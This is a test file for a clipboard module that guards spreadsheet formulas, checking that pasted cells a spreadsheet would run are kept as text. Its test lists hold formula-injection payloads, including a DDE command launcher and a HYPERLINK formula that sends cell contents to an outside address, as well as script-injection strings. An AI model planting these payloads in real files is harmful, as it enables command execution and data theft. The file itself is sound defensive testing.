/** H7: texts that a spreadsheet would run are pasted as texts and come back as they were; numbers stay numbers. */
import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { parseBlock, writeBlock, writeTable } from '../../renderer/grid/clipboard.ts'
import { guardFormula, withoutGuard } from '../../shared/formulaGuard.ts'
import { convert, skipsLibreOffice, titleWithTools } from '../support/libreOffice.ts'

const formulas = [
  '=1+1',
  '=HYPERLINK("http://192.0.2.1/?"&A1,"bấm")',
  "=cmd|'/c calc'!A1",
  '+1+cmd',
  '-1+1|0',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1',
  ' =1+1',
  '\u00a0=1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+a',
  '－1+a',
  '＠SUM(A1)',
  '|calc',
  '%0A=1+1',
  '-cmd',
  '=',
]
const harmless = [
  '',
  '-',
  '–',
  '-5',
  '+5',
  '-1.330',
  '3,5',
  '+84912345678',
  '12%',
  '-12,5%',
  '01/02/2021',
  'Lường Văn A',
  'a=b',
  "'quen",
]

describe('H7 what is copied for a spreadsheet', () => {
  it.each(formulas)('%j is pasted as a text', (text) => {
    expect(guardFormula(text)).toBe(`'${text}`)
    expect(withoutGuard(guardFormula(text))).toBe(text)
  })

  it.each(harmless)('%j stays as it is', (text) => {
    expect(guardFormula(text)).toBe(text)
    expect(withoutGuard(text)).toBe(text)
  })
})

describe('H7 both flavours of the clipboard', () => {
  const markup = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><td>=1+1', '&lt;b&gt;', 'a & b < c']

  it('hold no markup that a cell brought along, and no cell that begins with what a spreadsheet runs', () => {
    const table = writeTable([[...markup, ...formulas]])
    expect(
      table.replace(/<\/?(?:table|tr|td|br)(?: style="mso-number-format:'\\@'" sdnum="1033;0;@")?>/g, ''),
    ).not.toMatch(/[<>]/)
    const marked = table.match(/<td style="mso-number-format:'\\@'" sdnum="1033;0;@">/g) ?? []
    expect(marked).toHaveLength(formulas.length)
    const [pasted] = parseBlock(writeBlock([formulas]))
    expect(pasted?.map((cell) => cell[0])).toEqual(formulas.map(() => "'"))
  })

  it.skipIf(skipsLibreOffice)(
    titleWithTools('are texts to a spreadsheet that reads the table, whatever stands in it'),
    () => {
      const html = writeTable(formulas.map((text) => [text, '12']))
      const read = convert(
        new TextEncoder().encode(`<meta charset="utf-8">${html}`),
        'dan.html',
        'fods',
        'HTML (StarCalc)',
      )
      const sheet = readFileSync(read.path, 'utf8')
      read.remove()
      expect(sheet).not.toContain('table:formula')
      expect(sheet.match(/office:value-type="float" office:value="12"/g)).toHaveLength(formulas.length)
      expect(sheet).toContain('=HYPERLINK(')
    },
    30_000,
  )
})
